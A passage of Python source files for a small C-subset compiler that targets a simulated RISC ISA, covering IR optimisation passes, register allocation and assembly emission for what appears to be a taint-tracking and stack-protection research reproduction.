    simulator's runtime behavior instead of baking in a guess).
    """
    sa, sb = _signed(a), _signed(b)
    if op == "+":
        return (a + b) & _MASK32
    if op == "-":
        return (a - b) & _MASK32
    if op == "*":
        return (sa * sb) & _MASK32
    if op == "/":
        if sb == 0:
            return None
        return int(sa / sb) & _MASK32  # C truncation toward zero
    if op == "%":
        if sb == 0:
            return None
        return (sa - int(sa / sb) * sb) & _MASK32
    if op == "&":
        return (a & b) & _MASK32
    if op == "|":
        return (a | b) & _MASK32
    if op == "^":
        return (a ^ b) & _MASK32
    if op == "<<":
        return ((a & _MASK32) << (b & 31)) & _MASK32
    if op == ">>":
        return (sa >> (b & 31)) & _MASK32
    if op == "slt":
        return 1 if sa < sb else 0
    if op == "sltu":
        return 1 if (a & _MASK32) < (b & _MASK32) else 0
    if op == "nor":
        return ~(a | b) & _MASK32
    return None


#: Identity folds whose taint transfer equals a plain register move.
_MOVE_SAFE_RIGHT_ZERO = frozenset({"+", "-", "|", "^", "<<", ">>"})
_MOVE_SAFE_LEFT_ZERO = frozenset({"+", "|", "^"})


def fold_constants(fn: IRFunction) -> bool:
    """Fold const-const BinOps and taint-safe identities into copies."""
    changed = False
    for block in fn.blocks:
        for i, instr in enumerate(block.instrs):
            if not isinstance(instr, BinOp):
                continue
            a, b = instr.a, instr.b
            if isinstance(a, int) and isinstance(b, int):
                value = _eval_binop(instr.op, a, b)
                if value is not None:
                    block.instrs[i] = Copy(instr.dst, _signed(value))
                    changed = True
                continue
            if isinstance(b, int) and b == 0 and isinstance(a, Temp):
                if instr.op in _MOVE_SAFE_RIGHT_ZERO:
                    block.instrs[i] = Copy(instr.dst, a)
                    changed = True
                continue
            if isinstance(a, int) and a == 0 and isinstance(b, Temp):
                if instr.op in _MOVE_SAFE_LEFT_ZERO:
                    block.instrs[i] = Copy(instr.dst, b)
                    changed = True
    return changed


def propagate_copies(fn: IRFunction) -> bool:
    """Block-local copy/constant propagation with pinned-temp discipline."""
    changed = False
    for block in fn.blocks:
        available: Dict[int, Value] = {}  # temp id -> replacement value

        def subst(value: Value, need_temp: bool = False) -> Value:
            if isinstance(value, Temp) and value.pin is None:
                repl = available.get(value.id)
                if repl is not None and not (
                    need_temp and not isinstance(repl, Temp)
                ):
                    return repl
            return value

        def kill(temp: Temp) -> None:
            available.pop(temp.id, None)
            dead = [
                key for key, val in available.items()
                if isinstance(val, Temp) and val.id == temp.id
            ]
            for key in dead:
                del available[key]

        for instr in block.instrs:
            before = instr_uses(instr)
            if isinstance(instr, Copy):
                new_src = subst(instr.src)
                if new_src is not instr.src:
                    instr.src = new_src
                    changed = True
            elif isinstance(instr, BinOp):
                na, nb = subst(instr.a), subst(instr.b)
                if na is not instr.a or nb is not instr.b:
                    instr.a, instr.b = na, nb
                    changed = True
            elif isinstance(instr, Load):
                nb = subst(instr.base, need_temp=True)
                if nb is not instr.base:
                    instr.base = nb  # type: ignore[assignment]
                    changed = True
            elif isinstance(instr, Store):
                ns = subst(instr.src)
                nb = subst(instr.base, need_temp=True)
                if ns is not instr.src or nb is not instr.base:
                    instr.src = ns
                    instr.base = nb  # type: ignore[assignment]
                    changed = True
            elif isinstance(instr, CallOp):
                new_args = [subst(arg) for arg in instr.args]
                if any(n is not o for n, o in zip(new_args, instr.args)):
                    instr.args = new_args
                    changed = True
            dst = instr_def(instr)
            if dst is not None:
                kill(dst)
                if (
                    isinstance(instr, Copy)
                    and dst.pin is None
                    and (
                        isinstance(instr.src, int)
                        or isinstance(instr.src, Temp)
                    )
                ):
                    available[dst.id] = instr.src
        term = block.terminator
        if isinstance(term, Branch):
            na, nb = subst(term.a), subst(term.b)
            if na is not term.a or nb is not term.b:
                term.a, term.b = na, nb
                changed = True
        elif isinstance(term, Ret) and term.value is not None:
            nv = subst(term.value)
            if nv is not term.value:
                term.value = nv
                changed = True
    return changed


def eliminate_dead_code(fn: IRFunction) -> bool:
    """Remove pure instructions whose results are never used.

    Loads, stores, calls and compare BinOps always survive (alert and
    untaint side effects); a call whose result is unused keeps the call
    but drops the destination.
    """
    changed = False
    while True:
        use_counts: Dict[int, int] = {}
        for block in fn.blocks:
            for instr in block.instrs:
                for value in instr_uses(instr):
                    if isinstance(value, Temp):
                        use_counts[value.id] = use_counts.get(value.id, 0) + 1
            if block.terminator is not None:
                for value in term_uses(block.terminator):
                    if isinstance(value, Temp):
                        use_counts[value.id] = use_counts.get(value.id, 0) + 1
        removed = False
        for block in fn.blocks:
            kept: List[Instr] = []
            for instr in block.instrs:
                dst = instr_def(instr)
                dead = (
                    dst is not None
                    and dst.pin is None
                    and use_counts.get(dst.id, 0) == 0
                )
                if dead and is_pure(instr):
                    removed = True
                    changed = True
                    continue
                if dead and isinstance(instr, CallOp):
                    instr.dst = None
                    changed = True
                kept.append(instr)
            block.instrs = kept
        if not removed:
            return changed


def simplify_cfg(fn: IRFunction) -> bool:
    """Fold constant branches, thread empty blocks, drop unreachable code.

    Branches with any non-constant operand are kept verbatim: executing
    ``beq``/``bne`` untaints the operand registers, so a branch may only
    disappear when both operands are compile-time constants (constant
    registers are never tainted).
    """
    changed = False
    for block in fn.blocks:
        term = block.terminator
        if isinstance(term, Branch):
            if isinstance(term.a, int) and isinstance(term.b, int):
                taken = (term.a == term.b) == (term.op == "beq")
                block.terminator = Jump(
                    term.if_true if taken else term.if_false
                )
                changed = True
            elif term.if_true == term.if_false:
                # Both edges land in the same place; keep the compare
                # shape only if an operand could carry taint.
                pass

    # Thread jumps through empty blocks (entry block stays put).
    redirect: Dict[str, str] = {}
    for block in fn.blocks[1:]:
        if not block.instrs and isinstance(block.terminator, Jump):
            redirect[block.label] = block.terminator.target

    def resolve(label: str) -> str:
        seen: Set[str] = set()
        while label in redirect and label not in seen:
            seen.add(label)
            label = redirect[label]
        return label

    for block in fn.blocks:
        term = block.terminator
        if isinstance(term, Jump):
            target = resolve(term.target)
            if target != term.target and target != block.label:
                term.target = target
                changed = True
        elif isinstance(term, Branch):
            t, f = resolve(term.if_true), resolve(term.if_false)
            if t != term.if_true or f != term.if_false:
                term.if_true, term.if_false = t, f
                changed = True

    # Unreachable-block removal (DFS from the entry block).
    if fn.blocks:
        reachable: Set[str] = set()
        stack = [fn.blocks[0].label]
        while stack:
            label = stack.pop()
            if label in reachable:
                continue
            reachable.add(label)
            block = fn.blocks_by_label.get(label)
            if block is not None:
                stack.extend(block.successors())
        dead = {b.label for b in fn.blocks} - reachable
        if dead:
            fn.remove_blocks(dead)
            changed = True
    return changed


def run_passes(fn: IRFunction) -> IRFunction:
    """The -O1 pass schedule; iterates to a small fixpoint."""
    for _ in range(4):
        changed = propagate_copies(fn)
        changed |= fold_constants(fn)
        changed |= simplify_cfg(fn)
        changed |= eliminate_dead_code(fn)
        if not changed:
            break
    return fn
