"""MiniC: a small C-subset compiler targeting the simulated RISC ISA."""

from .compiler import compile_minic, compile_units
from .errors import CompileError
from .lexer import Lexer, Token, tokenize
from .parser import Parser, parse

__all__ = [
    "compile_minic",
    "compile_units",
    "CompileError",
    "Lexer",
    "Token",
    "tokenize",
    "Parser",
    "parse",
]
