"""Assembly emission for allocated MiniC IR.

Preserves the legacy backend's observable contracts:

* prologue/epilogue shape is identical to ``-O0`` — including the PAC
  ``.L{prefix}pac_sign_{func}_{n}`` / ``.L{prefix}pac_auth_{func}_{n}``
  dot labels on the return-address spill and reload that
  :mod:`repro.defenses.pac` matches through the symbol table;
* frame geometry: ``args | $ra | $fp | locals | $s-save | spills``, so
  local buffers keep their Figure 2 offsets (spill slots only ever grow
  the frame *below* the s-register save area);
* scratch discipline: ``$t8``/``$t9`` stage spilled operands and
  immediate materializations; ``$at`` is untouched because the emitter
  never uses the assembler's ``$at``-consuming branch pseudo-ops
  (``blt`` and friends) — only ``beq``/``bne``/``beqz``/``bnez``.

Immediate folding picks the I-type form (``addiu``/``andi``/``ori``/
``xori``/``slti``/``sltiu``/``sll``/``sra``) whenever the constant fits,
falling back to ``li`` + R-type otherwise.  ``slti`` untaints its one
register operand exactly like ``slt`` untaints both, so the fold is
verdict-neutral.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from .errors import CompileError
from .ir import (
    BasicBlock,
    BinOp,
    Branch,
    CallOp,
    Copy,
    IRFunction,
    Jump,
    Load,
    LoadAddr,
    Ret,
    Store,
    Temp,
    Value,
)
from .regalloc import Location

_SCRATCH = ("$t8", "$t9")

#: I-type folds for BinOps with a constant right operand.
_IMM_SIGNED = {"+": "addiu", "slt": "slti", "sltu": "sltiu"}
_IMM_UNSIGNED = {"&": "andi", "|": "ori", "^": "xori"}
_SHIFT_IMM = {"<<": "sll", ">>": "sra"}
_R3 = {
    "+": "addu", "-": "subu", "&": "and", "|": "or", "^": "xor",
    "<<": "sllv", ">>": "srav", "slt": "slt", "sltu": "sltu", "nor": "nor",
}
_COMMUTATIVE = frozenset({"+", "&", "|", "^"})


def _fits_signed16(value: int) -> bool:
    return -32768 <= value <= 32767


def _fits_unsigned16(value: int) -> bool:
    return 0 <= value <= 0xFFFF


class FunctionEmitter:
    """Emits one allocated IR function as assembly text."""

    def __init__(
        self,
        fn: IRFunction,
        locations: Dict[int, Location],
        new_label,
        emit_label,
        emit,
    ) -> None:
        self.fn = fn
        self.locations = locations
        self._new_label = new_label
        self._emit_label = emit_label
        self._emit = emit

    # ------------------------------------------------------------------
    # operand staging
    # ------------------------------------------------------------------

    def _loc(self, temp: Temp) -> Location:
        loc = self.locations.get(temp.id)
        if loc is None:
            # Dead temp that survived passes (e.g. unused call result that
            # kept its dst); stage through scratch.
            return Location(reg=_SCRATCH[0])
        return loc

    def _read(self, value: Value, slot: int) -> str:
        """Materialize ``value`` into a register; may use scratch ``slot``."""
        if isinstance(value, Temp):
            if value.pin is not None:
                return value.pin
            loc = self._loc(value)
            if loc.spilled:
                scratch = _SCRATCH[slot]
                self._emit(f"lw {scratch},{loc.offset}($fp)")
                return scratch
            return loc.reg
        if value == 0:
            return "$0"
        scratch = _SCRATCH[slot]
        self._emit(f"li {scratch},{value}")
        return scratch

    def _dst_reg(self, temp: Temp) -> str:
        """Register an instruction should compute its result into."""
        if temp.pin is not None:
            return temp.pin
        loc = self._loc(temp)
        return _SCRATCH[0] if loc.spilled else loc.reg

    def _writeback(self, temp: Temp, reg: str) -> None:
        if temp.pin is not None:
            return
        loc = self._loc(temp)
        if loc.spilled:
            self._emit(f"sw {reg},{loc.offset}($fp)")

    # ------------------------------------------------------------------
    # instructions
    # ------------------------------------------------------------------

    def _emit_copy(self, instr: Copy) -> None:
        dst = self._dst_reg(instr.dst)
        if isinstance(instr.src, Temp):
            src = self._read(instr.src, 1)
            if src != dst:
                self._emit(f"move {dst},{src}")
        else:
            self._emit(f"li {dst},{instr.src}")
        self._writeback(instr.dst, dst)

    def _emit_binop(self, instr: BinOp) -> None:
        op, a, b = instr.op, instr.a, instr.b
        dst = self._dst_reg(instr.dst)

        if op in ("*", "/", "%"):
            ra = self._read(a, 0)
            rb = self._read(b, 1)
            self._emit(f"{'mult' if op == '*' else 'div'} {ra},{rb}")
            self._emit(f"{'mfhi' if op == '%' else 'mflo'} {dst}")
            self._writeback(instr.dst, dst)
            return

        # Commutative const-on-the-left: swap into immediate position.
        if isinstance(a, int) and not isinstance(b, int):
            if op in _COMMUTATIVE:
                a, b = b, a

        if isinstance(b, int) and not isinstance(a, int):
            mn = _IMM_SIGNED.get(op)
            if mn is not None and _fits_signed16(b):
                ra = self._read(a, 0)
                self._emit(f"{mn} {dst},{ra},{b}")
                self._writeback(instr.dst, dst)
                return
            if op == "-" and _fits_signed16(-b):
                ra = self._read(a, 0)
                self._emit(f"addiu {dst},{ra},{-b}")
                self._writeback(instr.dst, dst)
                return
            mn = _IMM_UNSIGNED.get(op)
            if mn is not None and _fits_unsigned16(b):
                ra = self._read(a, 0)
                self._emit(f"{mn} {dst},{ra},{b}")
                self._writeback(instr.dst, dst)
                return
            mn = _SHIFT_IMM.get(op)
            if mn is not None and 0 <= b <= 31:
                ra = self._read(a, 0)
                self._emit(f"{mn} {dst},{ra},{b}")
                self._writeback(instr.dst, dst)
                return

        ra = self._read(a, 0)
        rb = self._read(b, 1)
        mn = _R3.get(op)
        if mn is None:  # pragma: no cover
            raise CompileError(f"unhandled IR binop {op!r}")
        self._emit(f"{mn} {dst},{ra},{rb}")
        self._writeback(instr.dst, dst)

    def _emit_load(self, instr: Load) -> None:
        base = self._read(instr.base, 1)
        dst = self._dst_reg(instr.dst)
        op = "lbu" if instr.size == 1 else "lw"
        self._emit(f"{op} {dst},{instr.offset}({base})")
        self._writeback(instr.dst, dst)

    def _emit_store(self, instr: Store) -> None:
        src = self._read(instr.src, 0)
        base = self._read(instr.base, 1)
        op = "sb" if instr.size == 1 else "sw"
        self._emit(f"{op} {src},{instr.offset}({base})")

    def _emit_loadaddr(self, instr: LoadAddr) -> None:
        dst = self._dst_reg(instr.dst)
        self._emit(f"la {dst},{instr.label}")
        self._writeback(instr.dst, dst)

    def _emit_call(self, instr: CallOp) -> None:
        n = len(instr.args)
        if n:
            self._emit(f"addiu $sp,$sp,-{4 * n}")
            for i, arg in enumerate(instr.args):
                reg = self._read(arg, 0)
                self._emit(f"sw {reg},{4 * i}($sp)")
        self._emit(f"jal {instr.name}")
        if n:
            self._emit(f"addiu $sp,$sp,{4 * n}")
        if instr.dst is not None:
            dst = self._dst_reg(instr.dst)
            if dst != "$v0":
                self._emit(f"move {dst},$v0")
            self._writeback(instr.dst, dst)

    def _emit_instr(self, instr) -> None:
        if isinstance(instr, Copy):
            self._emit_copy(instr)
        elif isinstance(instr, BinOp):
            self._emit_binop(instr)
        elif isinstance(instr, Load):
            self._emit_load(instr)
        elif isinstance(instr, Store):
            self._emit_store(instr)
        elif isinstance(instr, LoadAddr):
            self._emit_loadaddr(instr)
        elif isinstance(instr, CallOp):
            self._emit_call(instr)
        else:  # pragma: no cover
            raise CompileError(f"unhandled IR instr {type(instr).__name__}")

    # ------------------------------------------------------------------
    # terminators
    # ------------------------------------------------------------------

    def _emit_branch(self, term: Branch, next_label: Optional[str]) -> None:
        a, b = term.a, term.b
        if isinstance(a, int) and isinstance(b, int):
            # Passes fold this; stay robust anyway.
            taken = (a == b) == (term.op == "beq")
            target = term.if_true if taken else term.if_false
            if target != next_label:
                self._emit(f"b {target}")
            return
        if isinstance(a, int) and not isinstance(b, int):
            a, b = b, a  # beq/bne are symmetric
        op = term.op
        true_target, false_target = term.if_true, term.if_false
        if true_target == next_label:
            # Invert so the common path falls through.
            op = "bne" if op == "beq" else "beq"
            true_target, false_target = false_target, true_target
        ra = self._read(a, 0)
        if isinstance(b, int) and b == 0:
            mn = "beqz" if op == "beq" else "bnez"
            self._emit(f"{mn} {ra},{true_target}")
        else:
            rb = self._read(b, 1)
            self._emit(f"{op} {ra},{rb},{true_target}")
        if false_target != next_label:
            self._emit(f"b {false_target}")

    # ------------------------------------------------------------------
    # function body
    # ------------------------------------------------------------------

    def emit_function(self) -> None:
        fn = self.fn
        layout = fn.layout
        func_name = fn.name
        epilogue = self._new_label(f"epi_{func_name}_")

        save_area = 4 * len(layout.used_sregs)
        frame = layout.locals_size + save_area + fn.spill_size

        self._emit_label(func_name)
        self._emit("addiu $sp,$sp,-8")
        self._emit_label(self._new_label(f"pac_sign_{func_name}_"))
        self._emit("sw $ra,4($sp)")
        self._emit("sw $fp,0($sp)")
        self._emit("move $fp,$sp")
        if frame:
            self._emit(f"addiu $sp,$sp,-{frame}")
        for i, reg in enumerate(layout.used_sregs):
            self._emit(f"sw {reg},{-(layout.locals_size + 4 * (i + 1))}($fp)")

        for index, block in enumerate(fn.blocks):
            next_label = (
                fn.blocks[index + 1].label
                if index + 1 < len(fn.blocks) else None
            )
            if index > 0:
                self._emit_label(block.label)
            for instr in block.instrs:
                self._emit_instr(instr)
            term = block.terminator
            if isinstance(term, Jump):
                if term.target != next_label:
                    self._emit(f"b {term.target}")
            elif isinstance(term, Branch):
                self._emit_branch(term, next_label)
            elif isinstance(term, Ret):
                if term.value is not None:
                    if isinstance(term.value, int):
                        self._emit(f"li $v0,{term.value}")
                    else:
                        reg = self._read(term.value, 0)
                        if reg != "$v0":
                            self._emit(f"move $v0,{reg}")
                if next_label is not None:
                    self._emit(f"b {epilogue}")
            else:  # unterminated trailing block
                if next_label is not None:
                    raise CompileError(
                        f"internal: unterminated block {block.label!r}"
                    )

        self._emit_label(epilogue)
        for i, reg in enumerate(layout.used_sregs):
            self._emit(f"lw {reg},{-(layout.locals_size + 4 * (i + 1))}($fp)")
        self._emit("move $sp,$fp")
        self._emit("lw $fp,0($sp)")
        self._emit_label(self._new_label(f"pac_auth_{func_name}_"))
        self._emit("lw $ra,4($sp)")
        self._emit("addiu $sp,$sp,8")
        self._emit("jr $ra")
