"""Diagnostics for the MiniC toolchain."""

from __future__ import annotations


class CompileError(Exception):
    """Any MiniC front-end or code-generation error, with source location."""

    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        location = f" at line {line}" if line else ""
        if line and column:
            location += f", column {column}"
        super().__init__(message + location)
        #: The diagnostic text without the rendered " at line N" suffix,
        #: so wrappers can re-contextualize without duplicating it.
        self.raw_message = message
        self.line = line
        self.column = column
