"""Linear-scan register allocation over MiniC IR temporaries.

Replaces the legacy always-spill accumulator discipline ($t0/$t1/$t2 with
push/pop traffic for every binary operand) with Poletto-style linear scan
over live intervals:

* pinned temps (promoted ``$s`` scalars and ``$fp``) keep their physical
  register and never enter allocation — the compare-untaint fidelity
  contract depends on promoted variables staying in their home register;
* the allocatable pool is the caller-saved set the generated code owns:
  ``$t0-$t7``, ``$a0-$a3`` (arguments travel on the stack in this ABI, so
  the ``$a`` registers are free) and ``$v1``;
* ``$t8``/``$t9`` are reserved as spill-reload scratch and ``$at`` as the
  emitter's immediate-materialization scratch (the emitter never uses
  ``$at``-consuming branch pseudo-ops, so this is sound);
* any temp live **across a call** is force-spilled to a frame slot, which
  makes every call site trivially safe without caller-save bookkeeping
  (callees may clobber the whole pool; promoted ``$s`` registers are
  callee-saved by the standard prologue);
* spill slots sit *below* the locals and the ``$s``-register save area,
  so variable offsets — and with them the Figure 2 stack-smash frame
  geometry — are identical at every optimization level.

Liveness is a standard backward dataflow fixpoint; intervals use the
conservative whole-block extension for temps that live across block
boundaries (loops extend an interval around the whole loop body).
"""

from __future__ import annotations

from typing import Dict, List, Set, Tuple

from .ir import (
    BasicBlock,
    CallOp,
    IRFunction,
    Temp,
    instr_def,
    instr_uses,
    term_uses,
)

#: Allocatable pool, in preference order.
POOL: Tuple[str, ...] = (
    "$t0", "$t1", "$t2", "$t3", "$t4", "$t5", "$t6", "$t7",
    "$a0", "$a1", "$a2", "$a3", "$v1",
)

#: Reserved scratch registers (spill reloads; never allocated).
SPILL_SCRATCH: Tuple[str, str] = ("$t8", "$t9")


class Location:
    """Physical home of a temp after allocation."""

    __slots__ = ("reg", "offset")

    def __init__(self, reg: str = "", offset: int = 0) -> None:
        self.reg = reg          # physical register, "" when spilled
        self.offset = offset    # $fp offset when spilled

    @property
    def spilled(self) -> bool:
        return not self.reg


def _block_liveness(
    fn: IRFunction,
) -> Tuple[Dict[str, Set[int]], Dict[str, Set[int]]]:
    """Backward dataflow: per-block live-in/live-out sets of temp ids."""
    gen: Dict[str, Set[int]] = {}
    kill: Dict[str, Set[int]] = {}
    for block in fn.blocks:
        g: Set[int] = set()
        k: Set[int] = set()
        for instr in block.instrs:
            for value in instr_uses(instr):
                if isinstance(value, Temp) and value.pin is None:
                    if value.id not in k:
                        g.add(value.id)
            dst = instr_def(instr)
            if dst is not None and dst.pin is None:
                k.add(dst.id)
        if block.terminator is not None:
            for value in term_uses(block.terminator):
                if isinstance(value, Temp) and value.pin is None:
                    if value.id not in k:
                        g.add(value.id)
        gen[block.label] = g
        kill[block.label] = k

    live_in: Dict[str, Set[int]] = {b.label: set() for b in fn.blocks}
    live_out: Dict[str, Set[int]] = {b.label: set() for b in fn.blocks}
    changed = True
    while changed:
        changed = False
        for block in reversed(fn.blocks):
            out: Set[int] = set()
            for succ in block.successors():
                out |= live_in.get(succ, set())
            new_in = gen[block.label] | (out - kill[block.label])
            if out != live_out[block.label] or new_in != live_in[block.label]:
                live_out[block.label] = out
                live_in[block.label] = new_in
                changed = True
    return live_in, live_out


def allocate(fn: IRFunction) -> Dict[int, Location]:
    """Assign every non-pinned temp a register or a frame spill slot."""
    live_in, live_out = _block_liveness(fn)

    # Linearize and build conservative live intervals.
    starts: Dict[int, int] = {}
    ends: Dict[int, int] = {}
    call_positions: List[int] = []
    pos = 0
    for block in fn.blocks:
        block_start = pos
        for instr in block.instrs:
            for value in instr_uses(instr):
                if isinstance(value, Temp) and value.pin is None:
                    starts.setdefault(value.id, pos)
                    ends[value.id] = max(ends.get(value.id, pos), pos)
            dst = instr_def(instr)
            if dst is not None and dst.pin is None:
                starts.setdefault(dst.id, pos)
                ends[dst.id] = max(ends.get(dst.id, pos), pos)
            if isinstance(instr, CallOp):
                call_positions.append(pos)
            pos += 1
        if block.terminator is not None:
            for value in term_uses(block.terminator):
                if isinstance(value, Temp) and value.pin is None:
                    starts.setdefault(value.id, pos)
                    ends[value.id] = max(ends.get(value.id, pos), pos)
            pos += 1
        block_end = pos - 1
        for tid in live_in[block.label]:
            starts[tid] = min(starts.get(tid, block_start), block_start)
            ends[tid] = max(ends.get(tid, block_start), block_start)
        for tid in live_out[block.label]:
            starts.setdefault(tid, block_start)
            ends[tid] = max(ends.get(tid, block_end), block_end)

    # Temps live across a call lose their register unconditionally.
    crossers: Set[int] = set()
    for tid in starts:
        s, e = starts[tid], ends[tid]
        for cp in call_positions:
            if s < cp < e:
                crossers.add(tid)
                break

    locations: Dict[int, Location] = {}
    spill_slots = 0
    base = fn.layout.locals_size + 4 * len(fn.layout.used_sregs)

    def new_spill() -> Location:
        nonlocal spill_slots
        spill_slots += 1
        return Location(offset=-(base + 4 * spill_slots))

    for tid in crossers:
        locations[tid] = new_spill()

    # Poletto linear scan over the remaining intervals.
    intervals = sorted(
        (tid for tid in starts if tid not in crossers),
        key=lambda tid: (starts[tid], ends[tid], tid),
    )
    free = list(POOL)
    active: List[Tuple[int, int, str]] = []  # (end, tid, reg), sorted by end
    for tid in intervals:
        start = starts[tid]
        while active and active[0][0] < start:
            _, _, reg = active.pop(0)
            free.append(reg)
        if free:
            reg = free.pop(0)
            locations[tid] = Location(reg=reg)
            entry = (ends[tid], tid, reg)
            lo = 0
            while lo < len(active) and active[lo][0] <= entry[0]:
                lo += 1
            active.insert(lo, entry)
        else:
            locations[tid] = new_spill()

    fn.spill_offsets = {
        tid: loc.offset for tid, loc in locations.items() if loc.spilled
    }
    fn.spill_size = 4 * spill_slots
    return locations
