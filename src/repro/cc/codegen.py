"""MiniC code generator targeting the simulated RISC ISA.

ABI (shared with the hand-written assembly runtime):

* all arguments are passed on the stack, pushed right-to-left, so a callee
  sees argument ``i`` at ``fp + 8 + 4*i``; variadic functions walk the
  argument area with ``&last_named + 1`` exactly like a classic ``va_list``;
* return value in ``$v0``;
* frame layout (high to low): args | saved ``$ra`` at fp+4 | saved ``$fp``
  at fp+0 | locals (first declared highest) | saved ``$s`` registers.
  A local buffer therefore sits *below* the frame pointer and return
  address, giving the exact Figure 2 stack-smash geometry;
* scalar locals/params whose address is never taken are promoted to
  callee-saved ``$s0..$s7`` registers.

The promotion plus one code-shape rule -- comparisons are emitted **on the
variable's home register** -- is what makes the paper's compare-untaint
hardware rule behave correctly: after ``if (i < limit)`` the home register
of ``i`` has been an operand of a real compare instruction, so validated
values become trusted while unvalidated tainted values keep their taint.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set, Tuple

from .ast_nodes import (
    ArrayType,
    Assign,
    Binary,
    Block,
    Break,
    CHAR,
    CType,
    Call,
    Conditional,
    Continue,
    Expr,
    ExprStmt,
    For,
    FuncDef,
    GlobalDecl,
    If,
    INT,
    Index,
    IntLiteral,
    LocalDecl,
    PointerType,
    Return,
    SizeOf,
    Stmt,
    StringLiteral,
    TranslationUnit,
    Unary,
    VarRef,
    While,
)
from .errors import CompileError
from .frame import (
    FrameLayout as _FrameLayout,
    Slot as _Slot,
    StringPool,
    collect_address_taken as _collect_address_taken_impl,
    global_data_lines,
    global_label,
    layout_function as _layout_function_impl,
)

# Register conventions used by generated code.
_ACC = "$t0"     # expression accumulator
_SEC = "$t1"     # second operand
_SCR = "$t2"     # scratch (read-modify-write)

_COMPARISON_OPS = frozenset({"<", ">", "<=", ">=", "==", "!="})


class CodeGenerator:
    """Generates assembly for a MiniC translation unit."""

    def __init__(self, unit: TranslationUnit, prefix: str = "") -> None:
        self.unit = unit
        #: Prefix for internal labels, to keep multi-unit builds collision-free.
        self.prefix = prefix
        self._text: List[str] = []
        self._data: List[str] = []
        self._strings = StringPool(prefix)
        self._label_counter = 0
        self._globals: Dict[str, _Slot] = {}
        self._functions: Dict[str, FuncDef] = {
            f.name: f for f in unit.functions
        }
        # Per-function state:
        self._scopes: List[Dict[str, _Slot]] = []
        self._layout = _FrameLayout()
        self._function: Optional[FuncDef] = None
        self._epilogue_label = ""
        self._loop_stack: List[Tuple[str, str]] = []  # (break, continue)

    # ------------------------------------------------------------------
    # public API
    # ------------------------------------------------------------------

    def generate(self) -> str:
        """Produce the assembly for the whole translation unit."""
        for decl in self.unit.globals:
            self._emit_global(decl)
        for func in self.unit.functions:
            self._emit_function(func)
        data_lines = self._data + self._strings.data_lines
        lines = [".text"]
        lines.extend(self._text)
        if data_lines:
            lines.append(".data")
            lines.extend(data_lines)
        return "\n".join(lines) + "\n"

    # ------------------------------------------------------------------
    # emission helpers
    # ------------------------------------------------------------------

    def _emit(self, line: str) -> None:
        self._text.append("    " + line)

    def _emit_label(self, label: str) -> None:
        self._text.append(f"{label}:")

    def _new_label(self, hint: str) -> str:
        self._label_counter += 1
        return f".L{self.prefix}{hint}{self._label_counter}"

    def _string_label(self, data: bytes) -> str:
        return self._strings.label(data)

    def _push(self, reg: str = _ACC) -> None:
        self._emit("addiu $sp,$sp,-4")
        self._emit(f"sw {reg},0($sp)")

    def _pop(self, reg: str) -> None:
        self._emit(f"lw {reg},0($sp)")
        self._emit("addiu $sp,$sp,4")

    # ------------------------------------------------------------------
    # globals
    # ------------------------------------------------------------------

    def _global_label(self, name: str) -> str:
        return global_label(name)

    def _emit_global(self, decl: GlobalDecl) -> None:
        label = self._global_label(decl.name)
        self._globals[decl.name] = _Slot(
            kind="global", ctype=decl.ctype, label=label
        )
        self._data.extend(global_data_lines(decl, label))

    # ------------------------------------------------------------------
    # function layout pre-pass
    # ------------------------------------------------------------------

    def _collect_address_taken(self, func: FuncDef) -> Set[str]:
        """Names whose address is taken anywhere in the function."""
        return _collect_address_taken_impl(func)

    def _layout_function(self, func: FuncDef) -> _FrameLayout:
        """Assign every local a slot and pick register promotions."""
        return _layout_function_impl(func)

    # ------------------------------------------------------------------
    # function emission
    # ------------------------------------------------------------------

    def _emit_function(self, func: FuncDef) -> None:
        self._function = func
        self._layout = self._layout_function(func)
        self._epilogue_label = self._new_label(f"epi_{func.name}_")
        self._scopes = [dict(self._layout.param_slots)]
        self._loop_stack = []
        layout = self._layout

        save_area = 4 * len(layout.used_sregs)
        frame = layout.locals_size + save_area

        self._emit_label(func.name)
        self._emit("addiu $sp,$sp,-8")
        # PAC sign/auth sites: pure labels on the return-address spill and
        # reload, consumed by repro.defenses.pac through the symbol table.
        # Labels add no instructions, so the encoded text (and every digest
        # built on it) is identical with or without a PAC defense attached.
        self._emit_label(self._new_label(f"pac_sign_{func.name}_"))
        self._emit("sw $ra,4($sp)")
        self._emit("sw $fp,0($sp)")
        self._emit("move $fp,$sp")
        if frame:
            self._emit(f"addiu $sp,$sp,-{frame}")
        for i, reg in enumerate(layout.used_sregs):
            self._emit(f"sw {reg},{-(layout.locals_size + 4 * (i + 1))}($fp)")
        # Copy promoted parameters into their home registers.
        for name, slot in layout.param_slots.items():
            if slot.kind == "sreg":
                self._emit(f"lw {slot.reg},{slot.offset}($fp)")

        self._gen_block(func.body, new_scope=False)

        self._emit_label(self._epilogue_label)
        for i, reg in enumerate(layout.used_sregs):
            self._emit(f"lw {reg},{-(layout.locals_size + 4 * (i + 1))}($fp)")
        self._emit("move $sp,$fp")
        self._emit("lw $fp,0($sp)")
        self._emit_label(self._new_label(f"pac_auth_{func.name}_"))
        self._emit("lw $ra,4($sp)")
        self._emit("addiu $sp,$sp,8")
        self._emit("jr $ra")
        self._function = None

    # ------------------------------------------------------------------
    # scopes
    # ------------------------------------------------------------------

    def _lookup(self, name: str, line: int) -> _Slot:
        for scope in reversed(self._scopes):
            if name in scope:
                return scope[name]
        slot = self._globals.get(name)
        if slot is not None:
            return slot
        raise CompileError(f"undefined variable {name!r}", line)

    # ------------------------------------------------------------------
    # statements
    # ------------------------------------------------------------------

    def _gen_block(self, block: Block, new_scope: bool = True) -> None:
        if new_scope:
            self._scopes.append({})
        for stmt in block.statements:
            self._gen_stmt(stmt)
        if new_scope:
            self._scopes.pop()

    def _gen_stmt(self, stmt: Stmt) -> None:
        if isinstance(stmt, Block):
            self._gen_block(stmt)
        elif isinstance(stmt, ExprStmt):
            if stmt.expr is not None:
                self._gen_expr(stmt.expr)
        elif isinstance(stmt, LocalDecl):
            self._gen_local_decl(stmt)
        elif isinstance(stmt, If):
            self._gen_if(stmt)
        elif isinstance(stmt, While):
            self._gen_while(stmt)
        elif isinstance(stmt, For):
            self._gen_for(stmt)
        elif isinstance(stmt, Return):
            if stmt.value is not None:
                self._gen_expr(stmt.value)
                self._emit(f"move $v0,{_ACC}")
            self._emit(f"b {self._epilogue_label}")
        elif isinstance(stmt, Break):
            if not self._loop_stack:
                raise CompileError("break outside loop", stmt.line)
